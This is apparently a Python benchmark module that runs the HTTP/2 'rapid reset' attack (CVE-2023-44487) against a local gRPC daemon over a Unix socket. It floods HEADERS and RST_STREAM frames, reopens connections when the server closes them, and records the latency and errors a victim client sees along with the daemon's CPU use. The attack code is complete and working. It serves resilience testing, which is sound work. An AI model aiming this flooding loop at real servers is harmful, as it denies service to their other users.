"""HTTP/2 "rapid reset" (CVE-2023-44487) against a daemon, and what other clients see.

  python -m bench.rapidreset -a SOCK [-c 100000] [--pid PID]

An attacker process sends HEADERS for Version and RST_STREAM(CANCEL) right after,
`count` times, on one connection, opening another whenever the server closes it (as an
attacker would); meanwhile another client calls Version over its own connection in a
loop. Prints one JSON object: resets sent, connections used, GOAWAY codes received, the
attack's duration, the other client's latencies (ms) during it and, with --pid, the
daemon's CPU seconds.
"""
from __future__ import annotations

import argparse
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time

import hpack

from .stats import percentile

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS, CANCEL = 0x4, 0x8
VERSION = b"/containerd.services.version.v1.Version/Version"
BATCH = 100   # streams per write


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + \
        struct.pack(">I", stream_id) + payload


class Attacker:
    """One raw HTTP/2 connection opening and resetting streams."""

    def __init__(self, address: str):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(30)
        self.sock.connect(address)
        self.goaway: int | None = None
        self.closed = threading.Event()
        self._encoder = hpack.Encoder()
        self._reader = threading.Thread(target=self._read, daemon=True, name="rr-read")
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._reader.start()

    def _headers(self) -> bytes:
        return self._encoder.encode([(b":method", b"POST"), (b":scheme", b"http"),
                                     (b":path", VERSION), (b":authority", b"localhost"),
                                     (b"content-type", b"application/grpc"), (b"te", b"trailers")])

    def run(self, count: int) -> int:
        """Open and reset up to `count` streams; returns how many were sent."""
        sent, stream_id = 0, 1
        rst = struct.pack(">I", CANCEL)
        try:
            while sent < count and not self.closed.is_set():
                chunk = []
                for _ in range(min(BATCH, count - sent)):
                    chunk.append(frame(HEADERS, END_HEADERS, stream_id, self._headers()))
                    chunk.append(frame(RST_STREAM, 0, stream_id, rst))
                    stream_id += 2
                self.sock.sendall(b"".join(chunk))
                sent += len(chunk) // 2
        except OSError:
            pass  # the server closed the connection
        return sent

    def _read(self) -> None:
        buf = b""
        try:
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    if buf[3] == GOAWAY and self.goaway is None:
                        self.goaway = struct.unpack_from(">I", buf, 13)[0]
                    buf = buf[9 + length:]
        except OSError:
            pass
        self.closed.set()

    def close(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self._reader.join(5)


def attack(address: str, count: int) -> dict:
    """`count` rapid resets, over as many connections as the server makes us use."""
    sent, goaways, connections = 0, [], 0
    t0 = time.perf_counter()
    while sent < count:
        attacker = Attacker(address)
        connections += 1
        n = attacker.run(count - sent)
        sent += n
        if sent >= count:  # the server's answer to the last streams, if any
            attacker.closed.wait(1)
        attacker.close()
        if attacker.goaway is not None:
            goaways.append(attacker.goaway)
        elif n == 0:
            raise RuntimeError("the server closed the connection without GOAWAY")
    return {"sent": sent, "connections": connections, "goaways": sorted(set(goaways)),
            "seconds": time.perf_counter() - t0}


def cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def measure(address: str, count: int, pid: int | None = None) -> dict:
    import grpc
    from google.protobuf import empty_pb2

    from appliance._proto.containerd.api.services.version.v1 import version_pb2_grpc
    with grpc.insecure_channel("unix://" + address) as channel:
        call = version_pb2_grpc.VersionStub(channel).Version
        for _ in range(20):
            call(empty_pb2.Empty(), timeout=10)
        samples, done, errors = [], threading.Event(), []

        def victim():
            while not done.is_set():
                t0 = time.perf_counter()
                try:
                    call(empty_pb2.Empty(), timeout=30)
                except grpc.RpcError as exc:
                    errors.append(exc.code().name)
                samples.append(1000 * (time.perf_counter() - t0))

        cpu0 = cpu_seconds(pid) if pid else None
        thread = threading.Thread(target=victim, name="victim")
        thread.start()
        # its own process: in this one it would hold the GIL the victim's client needs
        attack = subprocess.run([sys.executable, "-m", "bench.rapidreset", "-a", address,
                                 "-c", str(count), "--attack-only"],
                                capture_output=True, text=True, timeout=900,
                                cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
        done.set()
        thread.join(60)
    if attack.returncode:
        raise RuntimeError(f"attacker: {attack.stderr.strip()[-400:]}")
    out = json.loads(attack.stdout)
    samples.sort()
    out.update({"victim_calls": len(samples), "victim_errors": len(errors),
                "victim_p50_ms": percentile(samples, 0.5),
                "victim_p99_ms": percentile(samples, 0.99), "victim_max_ms": samples[-1]})
    if pid:
        out["cpu_s"] = cpu_seconds(pid) - cpu0
    return out


def main(argv=None):
    parser = argparse.ArgumentParser(prog="python -m bench.rapidreset")
    parser.add_argument("-a", "--address", required=True)
    parser.add_argument("-c", "--count", type=int, default=100_000)
    parser.add_argument("--pid", type=int)
    parser.add_argument("--attack-only", action="store_true", help="no victim, no CPU figure")
    args = parser.parse_args(argv)
    print(json.dumps(attack(args.address, args.count) if args.attack_only
                     else measure(args.address, args.count, args.pid)))


if __name__ == "__main__":
    main()
